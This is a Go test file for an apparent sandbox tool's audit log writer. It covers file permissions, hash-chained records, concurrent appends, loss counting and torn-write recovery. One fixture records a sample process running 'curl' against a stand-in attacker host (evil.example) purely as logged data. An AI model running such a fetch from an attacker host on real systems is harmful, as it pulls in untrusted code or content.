package audit

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sallyport/sallyport/internal/event"
	"golang.org/x/sys/unix"
)

// Directories of tests are private, whatever the user's umask: logs are refused in
// others.
func init() { unix.Umask(0o022) }

func create1(t *testing.T, dir string) *Writer {
	t.Helper()
	w, err := Create(dir, Header{Sandbox: event.Sandbox{ID: "box", Tier: event.TierRootless}, Host: "h\xff", BootID: "b"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = w.Close() })
	return w
}

func TestLogsArePrivate(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "state", "sallyport", "audit")
	w := create1(t, dir)
	for path, want := range map[string]os.FileMode{filepath.Dir(dir): 0o700, dir: 0o700, w.Path(): 0o600} {
		info, err := os.Stat(path)
		if err != nil {
			t.Fatal(err)
		}
		if got := info.Mode().Perm(); got != want {
			t.Errorf("%s has mode %o, want %o", path, got, want)
		}
	}
}

func TestDirectoriesOthersMayWriteAreRefused(t *testing.T) {
	dir := t.TempDir()
	for _, mode := range []os.FileMode{0o720, 0o702, 0o777} {
		if err := os.Chmod(dir, mode); err != nil {
			t.Fatal(err)
		}
		if w, err := Create(dir, Header{Sandbox: event.Sandbox{ID: "box"}}); err == nil {
			_ = w.Close()
			t.Errorf("mode %o was taken", mode)
		}
	}
	if left, _ := os.ReadDir(dir); len(left) > 0 {
		t.Errorf("left behind: %v", left)
	}
}

func TestCreateFailsWithoutAPlaceOrAName(t *testing.T) {
	file := filepath.Join(t.TempDir(), "file")
	if err := os.WriteFile(file, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ name, dir, id string }{
		{"no directory", "", "box"},
		{"a file in the way", filepath.Join(file, "audit"), "box"},
		{"no id", t.TempDir(), ""},
		{"an id that leaves the directory", t.TempDir(), "../box"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if w, err := Create(tt.dir, Header{Sandbox: event.Sandbox{ID: tt.id}}); err == nil {
				t.Errorf("made %s", w.Path())
			}
		})
	}
}

func TestWriterFillsTheFrame(t *testing.T) {
	w := create1(t, t.TempDir())
	before := time.Now()
	foreign := at(0)
	foreign.Sandbox = event.Sandbox{ID: "other", Name: "n"}
	foreign.Count, foreign.First, foreign.Last = 3, noon.Add(-time.Second), noon
	foreign.Seq, foreign.Prev, foreign.LostSinceLast, foreign.Host = 99, "x", 99, "liar"
	for _, e := range []event.Event{{}, foreign} {
		if err := w.Append(e); err != nil {
			t.Fatal(err)
		}
	}
	got := readAll(t, w.Path())
	a, b := got[0], got[1]
	if a.Schema != event.SchemaVersion || a.Seq != 1 || a.Prev != strings.Repeat("0", 64) || a.Mono <= 0 ||
		a.BootID != "b" || a.Host != "h\xff" || a.Sandbox.ID != "box" || a.Sandbox.Tier != event.TierRootless ||
		a.Count != 1 || a.Time.Before(before) || !a.First.Equal(a.Time) || !a.Last.Equal(a.Time) || a.LostSinceLast != 0 {
		t.Errorf("the empty event became %+v", a)
	}
	if b.Seq != 2 || b.Mono < a.Mono || b.Host != "h\xff" || b.Sandbox.ID != "other" || b.Count != 3 || b.LostSinceLast != 0 ||
		!b.Time.Equal(noon) || !b.First.Equal(foreign.First) || !b.Last.Equal(noon) {
		t.Errorf("the full event became %+v", b)
	}
	if sum := sha256.Sum256(lines(t, w.Path())[0]); b.Prev != hex.EncodeToString(sum[:]) {
		t.Errorf("prev is %s, want the hash of the line before", b.Prev)
	}
}

func TestConcurrentAppendsMakeOneChain(t *testing.T) {
	w := create1(t, t.TempDir())
	var wg sync.WaitGroup
	for g := range 8 {
		wg.Go(func() {
			for i := range 100 {
				e := at(0)
				e.Object.Path = event.Text(fmt.Sprintf("%d/%d", g, i))
				if err := w.Append(e); err != nil {
					t.Error(err)
				}
				w.Lost(1, "nft")
			}
		})
	}
	wg.Wait()
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	seen, lost := map[event.Text]bool{}, uint64(0)
	for _, e := range readAll(t, w.Path()) {
		if e.Object.Path != "" { // not the record of the last losses
			seen[e.Object.Path] = true
		}
		lost += e.LostSinceLast
	}
	if s := w.Stats(); len(seen) != 800 || lost != 800 || s.Lost["nft"] != 800 || s.Attempts[event.Deny] != 800 {
		t.Errorf("%d objects, %d lost, stats %+v", len(seen), lost, s)
	}
}

func TestLossesAreCarriedByTheNextEventOnce(t *testing.T) {
	w := create1(t, t.TempDir())
	w.Lost(3, "nft")
	w.Lost(2, "ring")
	w.Lost(0, "nowhere")
	for range 2 {
		if err := w.Append(at(0)); err != nil {
			t.Fatal(err)
		}
	}
	w.Lost(4, "nft")
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	var got []uint64
	for _, e := range readAll(t, w.Path()) {
		got = append(got, e.LostSinceLast)
	}
	if fmt.Sprint(got) != "[5 0 4]" {
		t.Errorf("lost_since_last is %v, want [5 0 4]: the last in a record of its own", got)
	}
	s := w.Stats()
	if s.LostTotal() != 9 || s.Lost["nft"] != 7 || s.Lost["ring"] != 2 || len(s.Lost) != 2 {
		t.Errorf("stats: %+v", s)
	}
}

func TestEventsThatCannotBeWrittenAreLostAndSaid(t *testing.T) {
	w := create1(t, t.TempDir())
	for name, e := range map[string]event.Event{
		"unknown verdict":    {Verdict: 200, Count: 2},
		"unprintable time":   {Time: time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC)},
		"longer than a line": {Object: event.Object{Path: event.Text(strings.Repeat("x", maxLine))}},
	} {
		if err := w.Append(e); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
	if err := w.Append(at(0)); err != nil {
		t.Fatal(err)
	}
	if got := readAll(t, w.Path()); len(got) != 1 || got[0].LostSinceLast != 4 || w.Stats().Lost[whereLog] != 4 {
		t.Errorf("%d events, %+v", len(got), w.Stats())
	}
}

func TestLongArgumentsAreLeftOutNotTheEvent(t *testing.T) {
	w := create1(t, t.TempDir())
	e := at(0)
	e.Process.Argv = []event.Text{"curl", event.Text(strings.Repeat("\x00", maxLine))}
	e.Ancestors = []event.Process{{PID: 1, Argv: e.Process.Argv}}
	if err := w.Append(e); err != nil {
		t.Fatal(err)
	}
	got := readAll(t, w.Path())[0]
	if got.Process.PID != 7 || got.Process.Argv != nil || got.Ancestors[0].Argv != nil ||
		!strings.Contains(string(got.Detail), "left out") {
		t.Errorf("written as %+v", got)
	}
	if len(e.Process.Argv) != 2 || len(e.Ancestors[0].Argv) != 2 {
		t.Error("the caller's event was changed")
	}
}

func TestALogWithoutALineIsNotLeftBehind(t *testing.T) {
	dir := t.TempDir()
	w := create1(t, dir)
	if left, _ := os.ReadDir(dir); len(left) != 1 {
		t.Errorf("while open: %v, want the log alone", left)
	}
	for range 2 {
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
	if left, _ := os.ReadDir(dir); len(left) != 0 {
		t.Errorf("left behind: %v", left)
	}
	if err := w.Append(at(0)); !errors.Is(err, os.ErrClosed) {
		t.Errorf("append after close: %v", err)
	}
}

func TestOnlyAnOpenLogIsLive(t *testing.T) {
	w := create1(t, t.TempDir())
	if err := w.Append(at(0)); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(w.Path())
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if !isLive(f) {
		t.Error("an open log is not live")
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if isLive(f) {
		t.Error("a closed log is live")
	}
}

// brokenFile is a file that fails on demand.
type brokenFile struct {
	*os.File
	room       int   // bytes until the disk is full; below zero: no limit
	truncating error // what Truncate answers
}

var errFull = errors.New("no space")

func (f *brokenFile) Write(b []byte) (int, error) {
	if f.room < 0 || len(b) <= f.room {
		return f.File.Write(b)
	}
	n, err := f.File.Write(b[:f.room])
	return n, errors.Join(errFull, err)
}

func (f *brokenFile) Truncate(n int64) error {
	if f.truncating != nil {
		return f.truncating
	}
	return f.File.Truncate(n)
}

func newBroken(t *testing.T) (*Writer, *brokenFile) {
	path := filepath.Join(t.TempDir(), "a.jsonl")
	file, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	f := &brokenFile{File: file, room: -1}
	w := newWriter(path, f, nil, Header{Sandbox: event.Sandbox{ID: "box"}})
	if err := w.Append(at(0)); err != nil {
		t.Fatal(err)
	}
	return w, f
}

func TestAPartialWriteIsCutOff(t *testing.T) {
	for _, room := range []int{0, 1, 100} {
		w, f := newBroken(t)
		f.room = room
		e := at(1)
		e.Count = 5
		if err := w.Append(e); !errors.Is(err, errFull) {
			t.Fatalf("error is %v", err)
		}
		if got := readAll(t, w.Path()); len(got) != 1 {
			t.Errorf("room for %d: %d events", room, len(got))
		}
		f.room = -1
		if err := w.Append(at(2)); err != nil {
			t.Fatal(err)
		}
		if got := readAll(t, w.Path()); len(got) != 2 || got[1].LostSinceLast != 5 {
			t.Errorf("room for %d: after space returned: %+v", room, got)
		}
	}
}

func TestNothingFollowsATornLineThatCannotBeCutOff(t *testing.T) {
	w, f := newBroken(t)
	stuck := errors.New("append-only file")
	f.room, f.truncating = 10, stuck
	if err := w.Append(at(1)); !errors.Is(err, errFull) || !errors.Is(err, stuck) {
		t.Fatalf("error is %v", err)
	}
	f.room = -1
	if err := w.Append(at(2)); !errors.Is(err, stuck) {
		t.Fatalf("appended behind a torn line: %v", err)
	}
	b, _ := os.ReadFile(w.Path())
	if n := len(lines(t, w.Path())); n != 2 || b[len(b)-1] == '\n' {
		t.Errorf("%d lines, want the whole one and the torn one", n)
	}
	f.truncating = nil
	if err := w.Append(at(3)); err != nil {
		t.Fatal(err)
	}
	if got := readAll(t, w.Path()); len(got) != 2 || got[1].LostSinceLast != 2 {
		t.Errorf("after the repair: %+v", got)
	}
}

func TestCloseReportsATornLine(t *testing.T) {
	w, f := newBroken(t)
	f.room, f.truncating = 10, errors.New("stuck")
	_ = w.Append(at(1))
	f.room = -1
	if err := w.Close(); !errors.Is(err, f.truncating) {
		t.Errorf("Close: %v", err)
	}
}

func BenchmarkAppend(b *testing.B) {
	w, err := Create(b.TempDir(), Header{Sandbox: event.Sandbox{ID: "box"}, Host: "host", BootID: "boot"})
	if err != nil {
		b.Fatal(err)
	}
	e := typical()
	for b.Loop() {
		if err := w.Append(e); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	b.SetBytes(w.Stats().Bytes / int64(b.N))
	if err := w.Close(); err != nil {
		b.Fatal(err)
	}
}

// typical is an event as a run makes it, ancestors and all.
func typical() event.Event {
	e := at(0)
	e.Sandbox = event.Sandbox{ID: "box-0123456789ab", Name: "build", PolicySHA256: strings.Repeat("ab", 32), Tier: event.TierRootless}
	p := event.Process{PID: 4711, ExecID: "4711:123456", Exe: "/usr/bin/curl", ExeDevIno: "2049:1234567", Comm: "curl",
		Argv: []event.Text{"curl", "-sSf", "https://evil.example/x"}, Cwd: "/home/user/project", UID: 1000}
	e.Process, e.Ancestors = &p, []event.Process{p, p}
	return e
}
